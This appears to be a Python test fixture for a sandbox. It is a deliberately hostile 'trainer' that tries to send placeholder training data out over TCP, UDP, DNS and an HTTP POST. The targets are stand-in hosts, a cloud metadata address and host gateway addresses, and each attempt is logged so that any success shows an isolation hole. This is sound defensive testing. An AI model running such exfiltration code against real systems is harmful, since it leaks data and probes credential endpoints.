"""Hostile text_trainer: tries to send the training data away, by every way it knows, then trains nothing.

Prints one line an attempt; `sent` in any of them is a hole.
"""

import contextlib
import socket
import urllib.request
from collections.abc import Iterator

SECRET = b"the training data"
# Addresses kept for documentation (RFC 5737, RFC 3849), a cloud's metadata service, and the host itself.
ADDRESSES = ("192.0.2.1", "198.51.100.7", "169.254.169.254", "10.0.2.2", "172.17.0.1", "2001:db8::1")


@contextlib.contextmanager
def attempt(name: str) -> Iterator[None]:
    try:
        yield
    except OSError as error:
        print(f"network attempt={name} failed={error}", flush=True)
    else:
        print(f"network attempt={name} sent", flush=True)


for address in ADDRESSES:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with attempt(f"tcp-{address}"), socket.socket(family, socket.SOCK_STREAM) as link:
        link.settimeout(2)
        link.connect((address, 443))
        link.sendall(SECRET)
    with attempt(f"udp-{address}"), socket.socket(family, socket.SOCK_DGRAM) as link:
        link.sendto(SECRET, (address, 53))
with attempt("name"):
    socket.getaddrinfo("data.example.test", 443)
with attempt("http"):
    urllib.request.urlopen("http://data.example.test/", data=SECRET, timeout=2)
